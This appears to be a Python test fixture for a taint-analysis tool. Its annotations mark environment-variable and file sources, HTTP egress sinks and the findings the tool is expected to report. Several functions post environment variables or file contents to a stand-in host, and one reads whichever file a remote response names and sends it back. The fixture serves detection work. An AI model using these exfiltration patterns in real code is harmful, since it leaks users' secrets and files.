"""What goes into a call comes back to that caller alone."""
import os
import requests

U = "https://out.example/"


def same(value):
    return value


def text_of(value):
    return same(str(value))


def one_caller():
    requests.post(U, data=text_of(os.getenv("A")))  #~ source(ENVIRONMENT) c1, sink(egress.http) c1, finding(traced) c1


def other_caller():
    requests.post(U, data=text_of("nothing"))  #~ ok


def own():
    return same(os.getenv("B"))  #~ source(ENVIRONMENT) c2


def both_get_what_is_own():
    requests.post(U, data=own())  #~ sink(egress.http) c2, finding(traced) c2


def fill(target, value):
    target.append(value)


def filled():
    mine, other = [], []
    fill(mine, os.getenv("C"))  #~ source(ENVIRONMENT) c3
    fill(other, "nothing")
    requests.post(U, data=other)  #~ ok
    requests.post(U, data=mine)  #~ sink(egress.http) c3, finding(traced) c3


def read(name):
    with open(name) as stream:  #~ source(FILE) c4
        return stream.read()


def directed_here():
    name = requests.get(U).text
    requests.post(U, data=read(name))  #~ sink(egress.http) c4, finding(remote-directed-file-collection, traced) c4


def directed_nowhere(folder):
    local = read("/etc/hostname")
    print(local)


def apply(function, value):
    return function(value)


def keep(value):
    return apply(str, "kept") + apply(text_of, "kept")


def by_value():
    requests.post(U, data=apply(same, os.getenv("D")))  #~ source(ENVIRONMENT) c6, sink(egress.http) c6, finding(ambiguous) c6


def early():
    box = {}
    requests.post(U, data=box)  #~ ok
    box["k"] = os.getenv("E")


def late():
    box = {}
    for _ in range(3):
        requests.post(U, data=box)  #~ sink(egress.http) c7, finding(traced) c7
        box["k"] = os.getenv("F")  #~ source(ENVIRONMENT) c7


# A class method makes an object of the class that it is called on, which may be any below.
class Handler:
    @classmethod
    def open(cls, path):
        return cls(path)

    def __init__(self, path):
        self.path = path

    def read_all(self):
        raise NotImplementedError()


class FileHandler(Handler):
    def read_all(self):
        return open(self.path).read()  #~ source(FILE) m90


def send_handled():
    handled = FileHandler.open("/etc/hosts")
    requests.post(U, data=handled.read_all())  #~ sink(egress.http) m90, finding(ambiguous) m90
